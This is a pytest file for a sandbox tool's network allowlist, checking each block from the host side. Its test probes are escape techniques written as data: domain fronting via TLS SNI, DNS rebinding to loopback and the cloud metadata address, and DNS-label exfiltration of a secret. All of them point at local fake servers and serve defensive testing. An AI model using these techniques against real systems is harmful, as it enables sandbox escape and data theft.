"""Issue 16's walls of `--net allow`, each checked from the host side.

The sandbox speaks the protocols itself (tests/netfix.py PROBE: CONNECT, absolute-URI
HTTP, SOCKS5, raw TCP/UDP, raw DNS), so no client library hides a refusal, and the
evidence is the host's: the servers and listeners count what reached them, the fake
upstream DNS server records every name it was asked, and /proc of the sandboxed process
shows its namespace's sockets and routes.

- a host off the list: 403 with a reason / SOCKS5 0x02; its server got nothing, its name
  was never resolved;
- a direct IP connect (around the proxy, and an IP literal through it);
- an allowed name resolving to 127.0.0.1, 0.0.0.0, ::ffff:127.0.0.1 or 169.254.169.254;
- UDP out; raw DNS to an outside resolver; a data-carrying DNS query;
- no host process can reach the proxy: its listening sockets are in the sandbox's
  namespace only (the issue's per-run token, replaced: docs/ARCHITECTURE.md);
- a forwarded port is reachable, every other host loopback port is not;
- the audit log has each attempt with allowed/blocked and the rule; the run's summary
  counts the blocked ones and names the command that would allow them;
- `stockade allow --host` of the session applies to a run already going.

Root and uid 65534, in-process and served CLI.
"""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import User, need, world_tmpdir
from tests.netfix import (
    PY,
    SERVER_IP,
    NetWorld,
    TcpListener,
    UdpListener,
    find_marked,
    host_address,
    net_setup,
    socket_holders,
    tcp_listen_inodes,
    wait_for,
)

pytestmark = pytest.mark.cli_paths

ALLOW = ["--net", "allow", "--allow-host", SERVER_IP]  # the tests' servers: an explicit address rule
SOCKS_NOT_ALLOWED = 0x02


@pytest.fixture(scope="module")
def world() -> Iterator[NetWorld]:
    w = NetWorld.start(world_tmpdir("stockade-netwall-"))
    try:
        yield w
    finally:
        w.close()


def hosts(*names: str) -> list[str]:
    return [a for h in names for a in ("--allow-host", h)]


def probe(user: User, project: Path, env: dict[str, str], probes: list[list[object]], *args: str,
          session: str | None = None) -> tuple[list[dict[str, object]], subprocess.CompletedProcess[bytes]]:
    sess = ["--session", session] if session else []
    r = user.cli(["run", *sess, *args, "--", PY, "probe.py", json.dumps(probes)], cwd=project, env=env, timeout=180)
    assert r.returncode == 0, (r.stdout, r.stderr)
    return json.loads(r.stdout.decode().splitlines()[-1]), r


def events(user: User, project: Path, session: str, *, check: bool = True) -> list[dict[str, object]]:
    r = user.cli(["log", session, "--json"], cwd=project)
    if not check and r.returncode != 0:  # polled before the run made its session
        return []
    assert r.returncode == 0, r.stderr
    return [json.loads(x) for x in r.stdout.decode().splitlines() if x.strip()]


def net_events(evs: list[dict[str, object]]) -> list[dict[str, object]]:
    return [e for e in evs if str(e.get("operation", "")).startswith("net-")]


def test_a_host_off_the_list(user: User, project: Path, world: NetWorld) -> None:
    """evil.test resolves (upstream) to the tests' own HTTPS server: only the list stops
    it. CONNECT gets 403 with X-Stockade-Reason, absolute-URI HTTP 403, SOCKS5 0x02; the
    server accepted nothing and the name never left the host's proxy."""
    env = net_setup(user, project, world)
    before_s, before_p = world.https.connections, world.http.connections
    got, _ = probe(user, project, env, [
        ["connect", "evil.test", world.https.port],
        ["get", world.http.url("evil.test", "/files/hello.txt")],
        ["socks", "evil.test", world.https.port],
        ["connect", "files.test", world.https.port],  # the control: an allowed name passes
    ], *ALLOW, *hosts("files.test"))
    assert got[0]["status"] == 403 and "evil.test" in str(got[0]["reason"]), got
    assert got[1]["status"] == 403 and got[1]["reason"], got
    assert got[2] == {"reply": SOCKS_NOT_ALLOWED}, got
    assert got[3]["status"] == 200, got
    assert world.https.connections == before_s + 1  # the control's only
    assert world.http.connections == before_p
    assert world.dns.asked("evil.test") == [], world.dns.names()


def test_a_tls_server_name_off_the_list(user: User, project: Path, world: NetWorld) -> None:
    """Domain fronting: a tunnel to an allowed name (files.test) whose TLS ClientHello asks
    for another (evil.test, which the same server would serve: the certificate names it)
    ends before the handshake reaches the server; the same tunnel asking for files.test
    works. Host side: no handshake with the server, no request for evil.test; the audit
    event names evil.test as blocked."""
    env = net_setup(user, project, world)
    before = world.https.handshakes
    got, _ = probe(user, project, env, [
        ["tls", "files.test", world.https.port, "evil.test", "/files/hello.txt"],
        ["tls", "files.test", world.https.port, "files.test", "/files/hello.txt"],
    ], *ALLOW, *hosts("files.test"), session="sni")
    assert "body" not in got[0], got
    assert got[1] == {"status": 200, "body": "hello from the test server\n"}, got
    assert world.https.handshakes == before + 1  # the control's only
    assert not [p for p in world.https.paths("evil.test")], world.https.requests
    blocked = [e for e in net_events(events(user, project, "sni")) if e["result"] == "blocked"]
    assert [str(e["target"]).split(":")[0] for e in blocked] == ["evil.test"], blocked


def test_a_direct_ip_connect(user: User, project: Path, world: NetWorld) -> None:
    """Around the proxy: a TCP connect to the server's address fails inside (no route
    out of the sandbox's namespace). Through it: an IP literal no address rule names is
    refused (CONNECT, absolute-URI and SOCKS5 with ATYP 1). The host's listeners on
    127.0.0.3 and the tests' server count nothing."""
    env = net_setup(user, project, world)
    lis = TcpListener("127.0.0.3")
    try:
        before = world.https.connections
        got, _ = probe(user, project, env, [
            ["tcp", SERVER_IP, world.https.port],
            ["tcp", "127.0.0.3", lis.port],
            ["connect", "127.0.0.3", lis.port],
            ["get", f"http://127.0.0.3:{lis.port}/"],
            ["socks", "127.0.0.3", lis.port],
            # a public address no rule names: only the literal's own check stops it (no special
            # range does), and the proxy would dial out if it passed
            ["connect", "1.1.1.1", 443],
            ["socks", "1.1.1.1", 443],
        ], *ALLOW)
        assert got[0]["connected"] is False and got[1]["connected"] is False, got
        assert got[2]["status"] == 403 and got[3]["status"] == 403 and got[5]["status"] == 403, got
        assert got[4] == {"reply": SOCKS_NOT_ALLOWED} and got[6] == {"reply": SOCKS_NOT_ALLOWED}, got
        assert "1.1.1.1" in str(got[5]["reason"]), got
        time.sleep(0.2)
        assert lis.connections == 0
        assert world.https.connections == before
    finally:
        lis.close()


@pytest.mark.parametrize("name", ["rebind.test", "zero.test", "mapped.test", "meta.test", "self.test"])
def test_an_allowed_name_resolving_to_a_private_address(user: User, project: Path, world: NetWorld, name: str) -> None:
    """The name is on the list, its address is the host's loopback (127.0.0.1, 0.0.0.0,
    ::ffff:127.0.0.1), the host's own non-loopback address (self.test) or the cloud
    metadata address: refused by the proxy (HTTP and SOCKS5) and absent from the answers
    of the DNS inside; the host's listener (on 127.0.0.1; for self.test on that address)
    counts nothing. (169.254.169.254 cannot be bound here without changing the host's
    network: for meta.test the evidence is the refusal, the audit event's reason and the
    empty DNS answer.)"""
    env = net_setup(user, project, world)
    lis = world.loop
    if name == "self.test":
        ext = host_address()
        need(ext is not None, "the host has no non-loopback IPv4 address")
        assert ext is not None
        lis = TcpListener(ext)
    try:
        _refused_by_address(user, project, world, env, name, lis)
    finally:
        if lis is not world.loop:
            lis.close()


def _refused_by_address(user: User, project: Path, world: NetWorld, env: dict[str, str], name: str,
                        lis: TcpListener) -> None:
    port = lis.port
    before, mark = lis.connections, world.dns.mark()
    got, _ = probe(user, project, env, [
        ["connect", name, port],
        ["get", f"http://{name}:{port}/"],
        ["socks", name, port],
        ["gai", name],
    ], *ALLOW, *hosts(name), session="ssrf")
    assert got[0]["status"] == 403 and got[1]["status"] == 403, got
    assert got[2]["reply"] in (SOCKS_NOT_ALLOWED, 0x04), got  # not allowed, or no address left: unreachable
    assert "addresses" not in got[3] or not got[3]["addresses"], got
    time.sleep(0.2)
    assert lis.connections == before
    assert world.dns.asked(name, mark)  # resolved (it is allowed), then refused by address
    blocked = [e for e in net_events(events(user, project, "ssrf")) if e["result"] == "blocked" and name in str(e["target"])]
    assert blocked, "no blocked audit event"


def test_udp_out(user: User, project: Path, world: NetWorld) -> None:
    """UDP from inside reaches no host socket: loopback (127.0.0.1, 127.0.0.2) and a
    non-loopback address of the host where it has one."""
    env = net_setup(user, project, world)
    listeners = [UdpListener("127.0.0.1"), UdpListener(SERVER_IP)]
    ext = host_address()
    if ext:
        listeners.append(UdpListener(ext))
    try:
        hosts_ = ["127.0.0.1", SERVER_IP, *([ext] if ext else [])]
        got, _ = probe(user, project, env, [["udp", h, lis.port] for h, lis in zip(hosts_, listeners, strict=True)], *ALLOW)
        time.sleep(0.3)
        assert [lis.datagrams for lis in listeners] == [[]] * len(listeners), got
        # loopback inside is the sandbox's own; to the host's other address there is no route
        assert all(g["sent"] is False for g in got[2:]), got
    finally:
        for lis in listeners:
            lis.close()


def test_raw_dns_to_an_outside_resolver(user: User, project: Path, world: NetWorld) -> None:
    """A DNS question sent straight to the host's resolver (the fake upstream, on the
    host's 127.0.0.1) or to a public one, over UDP and TCP: nothing arrives (the
    sandbox's 127.0.0.1 is its own)."""
    env = net_setup(user, project, world)
    tag = f"rawdns{os.getpid()}{user.name}{user.path}"
    got, _ = probe(user, project, env, [
        ["dns", "127.0.0.1", world.dns.port, f"{tag}.files.test"],
        ["dns", "127.0.0.1", world.dns.port, f"{tag}.files.test", 1, "tcp"],
        ["dns", SERVER_IP, world.dns.port, f"{tag}.files.test"],
        ["dns", "8.8.8.8", 53, f"{tag}.files.test"],
        ["dns", "8.8.8.8", 53, f"{tag}.files.test", 1, "tcp"],
    ], *ALLOW, *hosts("files.test"))
    assert all("rcode" not in g for g in got), got
    time.sleep(0.2)
    assert world.dns.asked(tag) == [], world.dns.names()


def test_a_data_carrying_dns_query(user: User, project: Path, world: NetWorld) -> None:
    """Names that carry data (a secret as a label) through the sandbox's own resolver,
    below an allowed name and below one off the list, A, AAAA and TXT, UDP and TCP, and
    through libc: NXDOMAIN or nothing, and the upstream DNS server never sees the secret."""
    env = net_setup(user, project, world)
    secret = f"s3cr3t{os.getpid():x}{user.uid:x}{len(user.path or '')}"
    qs: list[list[object]] = []
    for parent in ("files.test", "evil.test"):
        for qtype in (1, 28, 16):
            qs.append(["dns", "127.0.0.1", 53, f"{secret}.{parent}", qtype])
        qs.append(["dns", "127.0.0.1", 53, f"{secret}.{parent}", 1, "tcp"])
        qs.append(["gai", f"{secret}.{parent}"])
    qs.append(["dns", "127.0.0.1", 53, "files.test", 1])  # the control: the responder answers
    got, _ = probe(user, project, env, qs, *ALLOW, *hosts("files.test"))
    assert got[-1] == {"rcode": 0, "answers": 1}, got
    for g in got[:-1]:
        assert "addresses" not in g and g.get("answers", 0) == 0, got
    time.sleep(0.2)
    assert world.dns.asked(secret) == [], world.dns.names()


def test_no_host_process_can_reach_the_proxy(user: User, project: Path, world: NetWorld) -> None:
    """The proxy's listening sockets (127.0.0.1:3128, [::1]:3128) are in the sandbox's
    network namespace: /proc/<sandboxed pid>/net/tcp lists them, the host's does not, and
    a host process (the supervisor) holds them. A host process connecting to
    127.0.0.1:3128 reaches no proxy of this run: the server behind an allowed name gets
    nothing. The sandbox's namespace has only lo and no route."""
    env = net_setup(user, project, world)
    marker = f"stockade-netwall-{os.getpid()}-{user.name}-{user.path}"
    p = subprocess.Popen([*user.prefix(), user.python, "-m", "stockade", "run", *ALLOW, *hosts("files.test"), "--",
                          "bash", "-c", f"exec -a {marker} sleep 120"],
                         cwd=project, env=user.env(env), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        pid = find_marked(marker)
        inside: dict[str, int] = {}
        for table in ("tcp", "tcp6"):
            inside.update(tcp_listen_inodes(Path(f"/proc/{pid}/net/{table}").read_text(), 3128))
        assert "0100007F:0C38" in inside, inside  # 127.0.0.1:3128
        host_tables = Path("/proc/self/net/tcp").read_text() + Path("/proc/self/net/tcp6").read_text()
        host_inodes = {int(f.split()[9]) for f in host_tables.splitlines() if len(f.split()) > 9 and f.split()[9].isdigit()}
        assert not set(inside.values()) & host_inodes
        own_ns = os.readlink("/proc/self/ns/net")
        assert os.readlink(f"/proc/{pid}/ns/net") != own_ns
        for inode in inside.values():
            holders = socket_holders(inode)
            assert holders, f"no process holds the proxy's socket {inode}"
            assert all(os.readlink(f"/proc/{h}/ns/net") == own_ns for h in holders), holders  # host-side proxy
        dev = Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]
        assert [ln.split(":")[0].strip() for ln in dev] == ["lo"], dev
        assert Path(f"/proc/{pid}/net/route").read_text().splitlines()[1:] == []
        before = world.https.connections
        for fam, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.settimeout(3)
            try:
                s.connect((addr, 3128))
                s.sendall(f"CONNECT files.test:{world.https.port} HTTP/1.1\r\n\r\n".encode())
                s.recv(100)
            except OSError:
                pass  # nothing listens there: the expected case
            finally:
                s.close()
        time.sleep(0.3)
        assert world.https.connections == before
    finally:
        p.send_signal(signal.SIGTERM)
        try:
            p.wait(timeout=30)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()


@pytest.mark.parametrize("mode", ["allow", "none"])
def test_a_forwarded_port_and_no_other(user: User, project: Path, world: NetWorld, mode: str) -> None:
    """--forward F: the sandbox reaches the host's 127.0.0.1:F at its own 127.0.0.1:F and
    [::1]:F; another host loopback port Q stays unreachable, directly and through the
    proxy; the host's listeners count exactly that."""
    env = net_setup(user, project, world)
    fwd = TcpListener("127.0.0.1", echo=True)
    other = TcpListener("127.0.0.1", echo=True)
    try:
        net = [*ALLOW] if mode == "allow" else ["--net", "none"]
        probes: list[list[object]] = [["tcp", "127.0.0.1", fwd.port], ["tcp", "::1", fwd.port],
                                      ["tcp", "127.0.0.1", other.port], ["tcp", "::1", other.port]]
        if mode == "allow":
            probes += [["connect", "127.0.0.1", other.port], ["connect", "localhost", other.port],
                       ["socks", "127.0.0.1", other.port]]
        got, _ = probe(user, project, env, probes, *net, "--forward", str(fwd.port))
        assert got[0] == {"connected": True, "echo": "ping\n"}, got
        assert got[1] == {"connected": True, "echo": "ping\n"}, got
        assert got[2]["connected"] is False and got[3]["connected"] is False, got
        if mode == "allow":
            assert got[4]["status"] == 403 and got[5]["status"] == 403, got
            assert got[6] == {"reply": SOCKS_NOT_ALLOWED}, got
        time.sleep(0.2)
        assert fwd.connections == 2
        assert other.connections == 0 and world.loop.connections == 0
    finally:
        fwd.close()
        other.close()


def test_the_audit_log_and_the_summary(user: User, project: Path, world: NetWorld) -> None:
    """Each attempt is an event: allowed with the rule that allowed it, blocked with the
    reason; `log --blocked-only` lists the blocked ones; the run's summary line counts
    them and names the command that would allow them. A URL's password is redacted."""
    env = net_setup(user, project, world)
    lis = TcpListener("127.0.0.3")
    try:
        got, r = probe(user, project, env, [
            ["connect", "files.test", world.https.port],
            ["connect", "evil.test", 443],
            ["get", f"http://127.0.0.3:{lis.port}/x"],
            ["get", f"http://user:hunter2secret@files.test:{world.http.port}/files/hello.txt"],
        ], *ALLOW, *hosts("files.test"), session="audit")
        assert [g["status"] for g in got] == [200, 403, 403, 200], got
        err = r.stderr.decode()
        summary = [ln for ln in err.splitlines() if "network:" in ln]
        assert len(summary) == 1, err
        assert re.search(r"network: 2 (connections )?blocked \(", summary[0]), summary
        assert "evil.test:443" in summary[0] and f"127.0.0.3:{lis.port}" in summary[0], summary
        assert "stockade allow --host evil.test" in summary[0], summary
        evs = net_events(events(user, project, "audit"))
        by_target = {str(e["target"]): e for e in evs if e["operation"] == "net-connect"}
        ok = by_target[f"files.test:{world.https.port}"]
        assert ok["result"] == "allowed" and ok["policy"] in ("files.test", SERVER_IP), ok
        bad = by_target["evil.test:443"]
        assert bad["result"] == "blocked" and bad.get("reason"), bad
        assert by_target[f"127.0.0.3:{lis.port}"]["result"] == "blocked"
        plain = by_target[f"files.test:{world.http.port}"]
        assert plain["result"] == "allowed"
        assert "hunter2secret" not in json.dumps(evs)
        r2 = user.cli(["log", "audit", "--blocked-only"], cwd=project)
        assert r2.returncode == 0, r2.stderr
        text = r2.stdout.decode()
        assert "evil.test" in text and "127.0.0.3" in text and "files.test" not in text, text
        assert lis.connections == 0
    finally:
        lis.close()


RETRY = r'''
import socket, sys, time
port = int(sys.argv[1])
deadline = time.time() + 90
while time.time() < deadline:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
    s.sendall(f"CONNECT late.test:{port} HTTP/1.1\r\n\r\n".encode())
    status = s.recv(4096).split(b" ")[1]
    s.close()
    print(status.decode(), flush=True)
    if status == b"200":
        sys.exit(0)
    time.sleep(0.3)
sys.exit(1)
'''


def test_session_allow_applies_to_a_running_sandbox(user: User, project: Path, world: NetWorld) -> None:
    """A run retries late.test until it is allowed; `stockade allow --host late.test`
    for its session, from the host while it runs, lets the next attempt through. The rule
    holds for the session's next run (`policy why` names it); a session deny then wins."""
    env = net_setup(user, project, world)
    (project / "retry.py").write_text(RETRY)
    user.own(project)
    before, before_conn, mark = len(world.https.paths()), world.https.connections, world.dns.mark()
    p = subprocess.Popen([*user.prefix(), user.python, "-m", "stockade", "run", "--session", "live", *ALLOW, "--",
                          PY, "retry.py", str(world.https.port)],
                         cwd=project, env=user.env(env), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        def refused() -> bool:
            evs = net_events(events(user, project, "live", check=False))
            return any(e["result"] == "blocked" and "late.test" in str(e["target"]) for e in evs)

        assert wait_for(refused, timeout=60, step=0.5), "the run's refusal never reached the log"
        assert world.https.connections == before_conn and world.dns.asked("late.test", mark) == []
        r = user.cli(["allow", "--host", "late.test", "--session", "live"], cwd=project)
        assert r.returncode == 0, r.stderr
        out, err = p.communicate(timeout=120)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    assert p.returncode == 0, (out, err)
    statuses = out.decode().split()
    assert statuses[0] == "403" and statuses[-1] == "200", statuses
    assert world.https.connections == before_conn + 1
    assert len(world.https.paths()) == before  # CONNECT only: the tunnel carried no request
    assert world.dns.asked("late.test", mark)
    r = user.cli(["allow", "--list", "--session", "live"], cwd=project)
    assert r.returncode == 0 and b"late.test" in r.stdout, (r.stdout, r.stderr)
    # the session's rule holds for its next run, `policy why` names it, and a session deny wins
    r = user.cli(["policy", "why", "--host", f"late.test:{world.https.port}", "--json", "--session", "live"],
                 cwd=project, env=env)
    assert r.returncode == 0 and b"late.test" in r.stdout and b"session" in r.stdout, (r.stdout, r.stderr)
    got, _ = probe(user, project, env, [["connect", "late.test", world.https.port]], *ALLOW, session="live")
    assert got[0]["status"] == 200, got
    r = user.cli(["deny", "--host", "late.test", "--session", "live"], cwd=project)
    assert r.returncode == 0, r.stderr
    conns = world.https.connections
    got, _ = probe(user, project, env, [["connect", "late.test", world.https.port]], *ALLOW, session="live")
    assert got[0]["status"] == 403, got
    assert world.https.connections == conns


